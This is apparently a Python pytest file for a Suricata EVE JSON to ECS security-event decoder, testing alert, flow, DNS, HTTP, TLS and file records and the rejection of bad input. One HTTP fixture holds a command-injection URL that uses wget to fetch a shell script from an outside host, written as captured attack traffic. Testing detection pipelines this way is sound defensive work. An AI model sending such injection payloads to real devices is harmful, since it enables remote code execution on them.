"""Suricata EVE JSON -> ECS SecurityEvents: alerts and protocol records."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest

from events.ids import stable_id
from events.models import SecurityEvent
from ingest.formats.base import DecodeError, get_decoder
from ingest.message import RawMessage

TOPIC = "seclog.suricata"
TS = "2026-11-24T08:00:00.123456+0700"  # Suricata writes the offset without a colon


def eve(event_type: str, **fields: Any) -> dict[str, Any]:
    record = {
        "timestamp": TS,
        "flow_id": 1405618463926131,
        "in_iface": "eth1",
        "event_type": event_type,
        "src_ip": "203.0.113.7",
        "src_port": 49286,
        "dest_ip": "10.20.0.5",
        "dest_port": 22,
        "proto": "TCP",
        "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
        "host": "ids-hn-01",
    }
    record.update(fields)
    return record


ALERT = {
    "action": "allowed",
    "gid": 1,
    "signature_id": 2018358,
    "rev": 10,
    "signature": "ET SCAN Potential SSH Scan OUTBOUND",
    "category": "Attempted Information Leak",
    "severity": 2,
    "metadata": {"mitre_technique_id": ["T1046", "bogus"], "mitre_tactic_id": ["TA0007"]},
}


def decode(record: Any, offset: int | None = 77) -> SecurityEvent:
    raw = record if isinstance(record, bytes) else orjson.dumps(record)
    msg = RawMessage("kafka", TOPIC, raw, partition=0, offset=offset)
    (event,) = get_decoder("suricata")(msg)
    assert isinstance(event, SecurityEvent)
    return event


def test_alert() -> None:
    event = decode(eve("alert", alert=ALERT, payload="AAAA" * 1000, packet="BBBB"))
    assert event.time == datetime(2026, 11, 24, 1, 0, 0, 123456, tzinfo=UTC)
    assert (event.dataset, event.category) == ("suricata.eve", ("intrusion_detection",))
    assert (event.rule_id, event.rule_name) == ("2018358", "ET SCAN Potential SSH Scan OUTBOUND")
    assert (event.severity, event.action) == (2, "allowed")
    assert (event.observer_vendor, event.observer_product) == ("OISF", "Suricata")
    assert (event.source_ip, event.source_port) == ("203.0.113.7", 49286)
    assert (event.destination_ip, event.destination_port) == ("10.20.0.5", 22)
    assert event.technique_ids == ("T1046",)
    assert event.host_name == "ids-hn-01"
    ecs = event.ecs
    assert ecs["event"]["kind"] == "alert"
    assert ecs["event"]["severity"] == 2
    assert ecs["event"]["type"] == ["allowed"]
    assert ecs["rule"] == {
        "id": "2018358",
        "name": "ET SCAN Potential SSH Scan OUTBOUND",
        "category": "Attempted Information Leak",
        "version": "10",
    }
    assert ecs["network"]["transport"] == "tcp"
    assert ecs["observer"]["hostname"] == "ids-hn-01"
    assert "payload" not in ecs["suricata"]["eve"] and "packet" not in ecs["suricata"]["eve"]
    assert ecs["suricata"]["eve"]["alert"]["gid"] == 1


def test_severity_one_is_kept_as_one() -> None:
    # Suricata 1 = most severe; it must not be inverted or rescaled.
    event = decode(eve("alert", alert=ALERT | {"severity": 1, "action": "blocked"}))
    assert event.severity == 1
    assert event.ecs["event"]["severity"] == 1
    assert event.ecs["event"]["type"] == ["denied"]


def test_ipv6_alert_is_canonicalised() -> None:
    event = decode(eve("alert", alert=ALERT, src_ip="2001:0db8:0000:0000:0000:0000:0000:0001"))
    assert event.source_ip == "2001:db8::1"


def test_flow() -> None:
    flow = {
        "pkts_toserver": 12,
        "pkts_toclient": 10,
        "bytes_toserver": 2048,
        "bytes_toclient": 8192,
        "start": "2026-11-24T07:59:00.000000+0700",
        "end": "2026-11-24T08:00:00.000000+0700",
        "state": "closed",
        "reason": "timeout",
    }
    event = decode(eve("flow", flow=flow, app_proto="ssh"))
    assert event.category == ("network",)
    assert event.action == "flow"
    assert event.rule_id is None and event.severity is None
    assert event.ecs["source"] == {"ip": "203.0.113.7", "port": 49286, "bytes": 2048, "packets": 12}
    assert event.ecs["destination"]["bytes"] == 8192
    assert event.ecs["network"]["protocol"] == "ssh"
    assert event.ecs["event"]["kind"] == "event"


def test_dns_v2_answer() -> None:
    dns = {
        "version": 2,
        "type": "answer",
        "id": 4711,
        "rrname": "congdichvu.hanoi.gov.vn",
        "rrtype": "A",
        "rcode": "NOERROR",
        "answers": [{"rrname": "congdichvu.hanoi.gov.vn", "rrtype": "A", "rdata": "203.0.113.50"}],
    }
    event = decode(eve("dns", dns=dns, proto="UDP", dest_port=53))
    assert event.ecs["dns"] == {
        "type": "answer",
        "id": 4711,
        "question": {"name": "congdichvu.hanoi.gov.vn", "type": "A"},
        "response_code": "NOERROR",
        "resolved_ip": ["203.0.113.50"],
    }
    assert event.ecs["network"]["transport"] == "udp"


def test_dns_v3_query() -> None:
    dns = {
        "version": 3,
        "type": "request",
        "id": 9,
        "queries": [{"rrname": "evil.example", "rrtype": "TXT"}],
    }
    event = decode(eve("dns", dns=dns))
    assert event.ecs["dns"]["question"] == {"name": "evil.example", "type": "TXT"}


def test_http() -> None:
    http = {
        "hostname": "camera-07.local",
        "url": "/cgi-bin/;wget http://198.51.100.9/x.sh",
        "http_user_agent": "Mozilla/5.0",
        "http_method": "GET",
        "protocol": "HTTP/1.1",
        "status": 404,
        "length": 162,
    }
    event = decode(eve("http", http=http, dest_port=80))
    ecs = event.ecs
    assert ecs["url"] == {"domain": "camera-07.local", "original": http["url"]}
    assert ecs["http"] == {
        "request": {"method": "GET"},
        "response": {"status_code": 404, "body": {"bytes": 162}},
        "version": "1.1",
    }
    assert ecs["user_agent"]["original"] == "Mozilla/5.0"


def test_tls() -> None:
    tls = {
        "subject": "CN=dichvucong.gov.vn",
        "issuerdn": "CN=R11, O=Let's Encrypt, C=US",
        "fingerprint": "6a:1f:…",
        "sni": "dichvucong.gov.vn",
        "version": "TLS 1.3",
        "ja3": {"hash": "e7d705a3286e19ea42f587b344ee6865"},
    }
    tls_ecs = decode(eve("tls", tls=tls, dest_port=443)).ecs["tls"]
    assert (tls_ecs["version_protocol"], tls_ecs["version"]) == ("tls", "1.3")
    assert tls_ecs["client"] == {
        "server_name": "dichvucong.gov.vn",
        "ja3": "e7d705a3286e19ea42f587b344ee6865",
    }
    assert tls_ecs["server"]["subject"] == "CN=dichvucong.gov.vn"


def test_fileinfo() -> None:
    info = {"filename": "/x.sh", "size": 512, "sha256": "ab" * 32, "state": "CLOSED"}
    event = decode(eve("fileinfo", fileinfo=info, http={"hostname": "198.51.100.9"}))
    assert event.category == ("network", "file")
    assert event.ecs["file"] == {"name": "/x.sh", "size": 512, "hash": {"sha256": "ab" * 32}}
    assert event.ecs["url"]["domain"] == "198.51.100.9"


def test_anomaly() -> None:
    anomaly = {"type": "decode", "event": "ipv4.wrong_ip_version", "layer": "proto_detect"}
    event = decode(eve("anomaly", anomaly=anomaly))
    assert event.category == ("network",)
    assert event.action == "ipv4.wrong_ip_version"


def test_other_protocol_record_keeps_base_fields() -> None:
    event = decode(eve("ssh", ssh={"client": {"software_version": "libssh2_1.9"}}))
    assert (event.category, event.action, event.source_ip) == (("network",), "ssh", "203.0.113.7")
    assert event.ecs["suricata"]["eve"]["ssh"]["client"]["software_version"] == "libssh2_1.9"


def test_bad_addresses_do_not_fail_the_record() -> None:
    event = decode(eve("flow", src_ip="not-an-ip", src_port=70000, dest_ip="fe80::1%eth0"))
    assert (event.source_ip, event.source_port, event.destination_ip) == (None, None, "fe80::1")


def test_event_id_and_raw() -> None:
    raw = orjson.dumps(eve("alert", alert=ALERT))
    event = decode(raw)
    assert event.event_id == stable_id("kafka", TOPIC, 0, 77)
    assert event.raw == raw
    assert decode(raw, offset=None).event_id == stable_id("kafka", TOPIC, raw)


def test_control_characters_in_strings_are_made_safe() -> None:
    event = decode(eve("alert", alert=ALERT | {"signature": "ET\x00 \x1b[1mX"}))
    assert event.rule_name == "ET␀ ␛[1mX"
    assert event.ecs["suricata"]["eve"]["alert"]["signature"] == "ET␀ ␛[1mX"


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        (b"{not json", "invalid JSON"),
        (b"[1,2]", "an EVE record must be a JSON object"),
        ({"event_type": "alert", "alert": ALERT}, "field 'timestamp' missing"),
        (eve("alert", alert=ALERT, timestamp="yesterday"), "field 'timestamp': 'yesterday' is not"),
        (eve("flow", timestamp="2026-11-24T08:00:00"), "timestamp has no UTC offset"),
        (eve("flow", timestamp="1999-01-01T00:00:00+0000"), "before 2000"),
        ({"timestamp": TS}, "field 'event_type' missing"),
        ({"timestamp": TS, "event_type": 5}, "field 'event_type' missing or not a string"),
        (eve("stats", stats={"uptime": 5}), "event_type 'stats' is not a security event"),
        (eve("alert"), "alert record without an 'alert' object"),
        (eve("alert", alert=ALERT | {"signature_id": "2018358"}), "'alert.signature_id'"),
        (eve("alert", alert=ALERT | {"severity": "high"}), "'alert.severity': 'high'"),
        (eve("alert", alert=ALERT | {"severity": True}), "'alert.severity': true"),
    ],
)
def test_rejections_name_the_problem(record: Any, reason: str) -> None:
    with pytest.raises(DecodeError) as caught:
        decode(record)
    assert reason in str(caught.value)


def test_future_timestamp_is_rejected() -> None:
    future = (datetime.now(UTC) + timedelta(days=3)).strftime("%Y-%m-%dT%H:%M:%S.%f%z")
    with pytest.raises(DecodeError, match=r"field 'timestamp': .*future"):
        decode(eve("flow", timestamp=future))
